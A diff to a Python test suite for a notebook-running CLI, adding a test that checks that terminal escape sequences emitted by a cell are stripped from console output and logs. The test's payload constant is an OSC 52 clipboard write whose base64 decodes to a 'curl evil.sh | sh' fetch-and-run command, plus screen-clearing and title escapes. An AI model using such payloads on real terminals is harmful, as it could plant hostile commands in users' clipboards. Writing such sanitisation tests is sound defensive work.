@@ -128,6 +128,19 @@ def _api_env() -> dict[str, str]:
     return {**os.environ, "PREFECT_API_URL": str(PREFECT_API_URL.value())}
 
 
+async def _cli_run(source: Path, *options: str) -> subprocess.CompletedProcess[str]:
+    """``prefect-sandbox run SOURCE OPTIONS`` against the session's API, from its folder."""
+    return await asyncio.to_thread(
+        subprocess.run,
+        [sys.executable, "-m", "prefect_sandbox.cli", "run", str(source), *options],
+        env=_api_env(),
+        cwd=source.parent,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
+
+
 async def test_b17_a_huge_exception_message_is_capped_everywhere_but_the_notebook(
     tmp_path: Path,
 ) -> None:
@@ -140,16 +153,7 @@ async def test_b17_a_huge_exception_message_is_capped_everywhere_but_the_noteboo
         "print('L' * 2_000_000)\nprint('after the long line')",
         raising,
     )
-    options = ["--artifact", "partial.txt", "--out", str(tmp_path / "out")]
-    done = await asyncio.to_thread(
-        subprocess.run,
-        [sys.executable, "-m", "prefect_sandbox.cli", "run", str(source), *options],
-        env=_api_env(),
-        cwd=tmp_path,
-        capture_output=True,
-        text=True,
-        timeout=300,
-    )
+    done = await _cli_run(source, "--artifact", "partial.txt", "--out", str(tmp_path / "out"))
     assert done.returncode == 1
     last = done.stderr.strip().splitlines()[-1]
     assert last.startswith("prefect-sandbox: pipeline failed: stage 'setup', cell 1: ValueError")
@@ -174,6 +178,42 @@ async def test_b17_a_huge_exception_message_is_capped_everywhere_but_the_noteboo
     assert any("after the long line" in m for m in messages if m.startswith("[setup cell 0]"))
     (logged,) = [m for m in messages if m.startswith("[setup cell 1] ValueError")]
     assert raising in logged and "\x1b" not in logged
+
+
+# What a cell would send to take over the terminal of whoever reads the CLI or the logs: an
+# OSC 52 clipboard write (BEL- and ST-ended), a screen clear, a full reset, a title, and the
+# same in 8-bit C1 form (U+009B CSI, U+009D OSC, U+009C ST).
+_TERMINAL_ATTACK = (
+    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b[H\x1bc\x1b]0;pwned\x1b\\"
+    "\x9b2J\x9b31m\x9d52;c;ZXZpbA==\x9c\x07\x08"
+)
+_CONTROLS = ["\x1b", "\x9b", "\x9c", "\x9d", "\x07", "\x08"]
+
+
+@pytest.mark.timeout(300)
+async def test_terminal_controls_a_cell_chose_reach_no_terminal_nor_log(tmp_path: Path) -> None:
+    attack = repr(_TERMINAL_ATTACK)
+    source = _notebook(
+        tmp_path / "escapes.ipynb",
+        f"print('out' + {attack} + 'put')",
+        f"raise type('Evil' + {attack} + 'Error', (Exception,), {{}})('msg' + {attack} + 'end')",
+    )
+    done = await _cli_run(source, "--out", str(tmp_path / "out"))
+    assert done.returncode == 1
+    last = done.stderr.strip().splitlines()[-1]
+    assert "cell 1: EvilError: msgend (partial results in" in last, last
+    assert not [c for c in _CONTROLS if c in done.stderr or c in done.stdout]
+    (out,) = (tmp_path / "out").iterdir()
+    summary = json.loads((out / "summary.json").read_text())
+    assert summary["stages"][0]["ename"] == "EvilError"
+    assert not [c for c in _CONTROLS if c in json.dumps(summary, ensure_ascii=False)]
+    messages = [log.message for log in await _run_logs(summary["flow_run_id"])]
+    assert any("output" in m for m in messages if m.startswith("[setup cell 0]"))
+    assert not [m for m in messages for c in _CONTROLS if c in m]
+    # The notebook keeps what the cell made, as Jupyter would show it.
+    executed = nbformat.read(out / "executed.ipynb", as_version=4)
+    (error,) = [o for o in executed.cells[1].outputs if o["output_type"] == "error"]
+    assert error["ename"] == f"Evil{_TERMINAL_ATTACK}Error"
 
 
 async def test_the_cell_that_ended_the_kernel_shows_it_in_the_executed_notebook(
